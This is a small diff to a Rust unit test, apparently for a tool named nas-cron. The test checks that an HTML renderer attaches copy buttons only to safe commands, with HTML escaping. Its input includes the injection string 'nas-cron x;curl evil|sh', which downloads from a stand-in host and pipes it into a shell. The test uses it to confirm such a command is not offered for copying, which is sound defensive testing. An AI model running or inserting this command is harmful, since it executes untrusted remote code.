@@ -133,7 +133,7 @@ mod tests {
             html.contains("nas-cron release --org &#39;a&lt;b&#39;") && html.ends_with(" ends that"),
             "{html}"
         );
-        let html = with_commands("a ` b, `parked`, `nas-cron x;curl evil|sh`, `nas-cron jobs show 'a`b'`")
+        let html = with_commands("`parked`, `nas-cron x;curl evil|sh`, `nas-cron jobs show 'a`b'`, a ` b")
             .to_string();
         assert_eq!(html.matches("data-copy").count(), 1, "{html}");
         assert!(html.contains("data-copy=\"nas-cron jobs show &#39;a`b&#39;\""), "{html}");
